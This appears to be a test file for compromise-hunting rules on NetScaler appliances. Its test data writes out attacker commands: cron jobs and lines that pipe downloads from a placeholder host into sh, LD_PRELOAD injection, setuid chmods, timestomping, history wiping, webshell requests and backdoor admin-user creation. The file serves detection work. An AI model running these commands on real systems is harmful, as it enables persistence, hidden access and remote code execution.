# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
"""Each rule by property for lines: what it finds, and what an ordinary appliance has, which it does not."""

from __future__ import annotations

import pytest
from ansible_collections.tourniquet.netscaler.plugins.plugin_utils.traces.hunting.fix_date import FixDate
from ansible_collections.tourniquet.netscaler.plugins.plugin_utils.traces.trace_rules.compiled_indicators import (
    general_clues,
)

COMMAND = 'Jan 19 23:40:14 <local7.notice> ns bash[3632]: {} shell_command="{}"'
ASKED = '198.51.100.7 - - [18/Jan/2020:00:15:29 +0000] "{} HTTP/1.1" {} {} "-" "x"'
HEAD = "Nov 28 04:30:00 <local0.info> 192.0.2.11  11/28/2026:04:30:00 GMT gw 0-PPE-0 : "
FAILED = 'default AAA LOGIN_FAILED 7 0 :  User {} - Client_ip 203.0.113.9 - Failure_reason "x"'
DONE = 'default CLI CMD_EXECUTED 1 0 : User nsroot - Remote_ip {} - Command "{}" - Status "Success"'

SETS = (
    "chmod 6555 /bin/sh",
    "chmod -v u+s /x",
    "chmod -R 04755 /x",
    "chmod +s /x",
    "x && chmod 2755 /y",
    "LD_PRELOAD=/x ls",
    "chmod 5755 /x",
    "chmod 3755 /x",
    "chmod 004755 /x",
    "chmod u+x,u+s /x",
    "chmod g-w+s /x",
    "chmod u=rwxs,o-w /x",
    "chmod '4755' /x",
    "setenv LD_PRELOAD /x",
    "export LD_32_PRELOAD=/x",
)
SETS_NOT = (
    "chmod 755 /x",
    "chmod 0644 /x",
    "chmod 1777 /x",
    "chmod +x /x",
    "chmod -R u+rw /x",
    "chmod 755 /x6555",
    "chmod u+x,g-s /x",
    "chmod -s /x",
    "chmod 00755 /x",
)
HIDES = (
    "touch -r /bin/ls /flash/ns-14.1-47.48.gz",
    "touch -t 202608022015 /var/netscaler/gui/x.ico",
    "touch -cmt 202608022015 /x",
    "touch -d '2026-08-02 20:15:00' /x",
    "unset HISTFILE",
    "export HISTFILE=/dev/null",
    "HISTSIZE=0; id",
    "history -c",
    "ln -sf /dev/null /root/.history",
    "set history = 0",
)
"""What gives a file another time, or leaves no history."""
HIDES_NOT = ("touch /var/x", "touch -c /var/x", "history", "history 20", "set history = 1000", "tail -d touch.txt")


def found(line: str, kind: str = "log") -> list[str]:
    """Return the levels of the rules that find a line."""
    return [str(clue.level) for clue in general_clues() if clue.kind == kind and clue.match(line.encode())]


@pytest.mark.parametrize(
    ("line", "levels"),
    [
        *((COMMAND.format("root on (null)", text), ["compromise"]) for text in SETS),
        *((COMMAND.format("root on (null)", text), []) for text in SETS_NOT),
        (COMMAND.format("(null) on (null)", "id"), ["review"]),
        (COMMAND.format("root on (null)", "id"), []),
        *((COMMAND.format("root on (null)", text), ["review"]) for text in HIDES),
        *((COMMAND.format("root on (null)", text), []) for text in HIDES_NOT),
        (ASKED.format("GET /vpn/themes/imgs/x.php?a=1", 200, 71), ["compromise"]),
        (ASKED.format("POST /vpn/theme/x.php", 404, 71), ["attempt"]),
        (ASKED.format(r"GET /vpn/themes/x.php?c=\"id\"", 200, 71), ["compromise"]),
        (ASKED.format(r"GET /vpn/themes/x.php?c=\"id\"", 404, 71), ["attempt"]),
        (ASKED.format(r"GET /vpn/themes/x.php?c=\" 200 ", 404, 71), ["attempt"]),
        (ASKED.format(r"GET /vpn/media/x.ico?c=\"id\"", 404, 71875), ["compromise"]),
        (ASKED.format(r"GET /vpn/media/x.ico?c=\" 404 71875 ", 404, 196), []),
        (ASKED.format("GET /vpn/themes/x.PHP", 200, 71), ["compromise"]),
        (ASKED.format("GET //vpn/./themes/x.php", 200, 71), ["compromise"]),
        (ASKED.format("GET /vpn//media/x.ico", 404, 71875), ["compromise"]),
        (ASKED.format("GET /vpn/themes/imgs/x.png", 200, 71), []),
        (ASKED.format("GET /vpn/themes/x.png?a=.php", 200, 71), []),
        (ASKED.format("GET /vpn/media/x.ico", 404, 71875), ["compromise"]),
        (ASKED.format("GET /vpn/media/x.ico", 404, 5200), ["compromise"]),
        (ASKED.format("GET /vpn/media/x.ico", 404, 196), []),
        (ASKED.format("GET /vpn/media/x.ico", 200, 71875), []),
        (DONE.format("127.0.0.1", "add system user x ****"), ["compromise"]),
        (DONE.format("::1", "bind system user x superuser 100"), ["compromise"]),
        (DONE.format("127.0.0.1", "show system user"), []),
        (DONE.format("10.9.9.9", "add system user x ****"), []),
        (HEAD + DONE.format("127.0.0.1", "add system user x y"), ["compromise"]),
        (HEAD + DONE.format("127.0.0.1", "add system user x y").replace("nsroot", "a b"), ["compromise"]),
        (HEAD + FAILED.format(HEAD + DONE.format("127.0.0.1", "add system user x y")), []),
        (HEAD + DONE.replace("nsroot", DONE.format("127.0.0.1", "add system user x y")).format("10.9.9.9", "login x"), []),
        (DONE.format("10.9.9.9", "set authentication epaAction x -defaultEPAGroup NO_AUTH"), ["compromise"]),
        (DONE.format("10.9.9.9", "set authentication epaAction x -defaultEPAGroup staff"), []),
    ],
)  # fmt: skip
def test_lines_of_logs(line: str, levels: list[str]) -> None:
    assert found(line) == levels


@pytest.mark.parametrize(
    ("job", "levels"),
    [
        ("* * * * * sh /var/nstmp/.a/ci.sh", ["compromise"]),
        ("@reboot /nsconfig/.x/httpd", ["compromise"]),
        ("*/5 * * * * root curl -sk https://192.0.2.66/x | sh", ["compromise"]),
        ("*/5 * * * * root curl -sk https://192.0.2.66/x | /bin/sh", ["compromise"]),
        ("*/5 * * * * root curl -sk https://192.0.2.66/x |perl", ["compromise"]),
        ('*/5 * * * * root sh -c "$(fetch -qo - http://192.0.2.66/x)"', ["compromise"]),
        ("*/5 * * * * root cd /var/tmp && ./x", ["compromise"]),
        ("*/5 * * * * root /netscaler.local/x", ["compromise"]),
        ("*/5 * * * * root curl -s https://monitor.example.net/heartbeat", []),
        ("0 3 * * * root find /var/tmp -mtime +7 -delete", []),
        ("*/5 * * * * root /nsconfig/monitors/load.pl | logger", []),
        ("*/5 * * * * root df -h | grep shm", []),
        ("*/5 * * * * root cd ../x; ls ./y", []),
    ],
)
def test_jobs_of_cron(job: str, levels: list[str]) -> None:
    assert found(job, "cron") == levels


@pytest.mark.parametrize(
    ("line", "levels"),
    [
        ("export LD_PRELOAD=/var/x.so", ["compromise"]),
        ("# LD_PRELOAD=/var/x.so", []),
        ("  # LD_PRELOAD=/var/x.so", []),
        ("echo '#'; LD_PRELOAD=/var/x.so httpd", ["compromise"]),
        ("LD_PRELOAD=/var/x#.so httpd", ["compromise"]),
        (": '#'; curl -sk https://192.0.2.66/x | sh", ["review"]),
        ("curl -sk https://192.0.2.66/x | sh", ["review"]),
        ("b64decode -r x | sh", ["review"]),
        ("# curl -sk https://192.0.2.66/x | sh", []),
        ("curl -sk https://192.0.2.66/x | /bin/sh", ["review"]),
        ("setenv LD_PRELOAD /var/x.so", ["compromise"]),
        ("httpd:setenv=LD_32_PRELOAD=/var/x.so:", ["compromise"]),
        ("LoadModule x_module /var/nslog/x.so", ["review"]),
        ('LoadFile "/nsconfig/x.so"', ["review"]),
        ("LoadModule php5_module libexec/libphp5.so", []),
        ("LoadModule ssl_module /usr/local/libexec/mod_ssl.so", []),
        ("php_value auto_prepend_file /var/x", ["compromise"]),
        ("php_admin_value auto_append_file /nsconfig/x", ["compromise"]),
        ("php_value memory_limit 64M", []),
        ('Include "/var/nslog/x.conf"', ["review"]),
        ("Include /etc/httpd/ssl.conf", []),
        ("AddHandler php5-script .deb", ["compromise"]),
        ("  AddType application/x-httpd-php .php .png", ["compromise"]),
        ("addhandler php5-script .deb", ["compromise"]),
        ("AddHandler php5-script deb", ["compromise"]),
        ('AddHandler "php5-script" ".deb"', ["compromise"]),
        ("AddHandler php5-script .php png", ["compromise"]),
        ("AddHandler php5-script .php", []),
        ("AddHandler php5-script php .php5", []),
        ("AddType application/x-httpd-php .phtml .php", []),
        ("# AddHandler php5-script .deb", []),
        ("AddType image/png .png", []),
        ("libc.so.7 /var/nslog/x.so", ["compromise"]),
        ("# libc.so.7 /var/nslog/x.so", []),
        ("(sleep 60; sh /var/tmp/.x/sh) &", ["review"]),
        ("nsapimgr_wr.sh -ys skip_systemaccess_policyeval=0", []),
    ],
)
def test_what_is_used_at_boot(line: str, levels: list[str]) -> None:
    assert found(line, "content") == levels


def test_a_rule_by_property_says_its_source_and_no_weakness() -> None:
    for clue in general_clues():
        assert clue.indicator.source in clue.why
        assert clue.entries == ()
        assert clue.why.count("named for") == 0
    assert FixDate(None).of((), None).value == "not known whether before or after the fix"
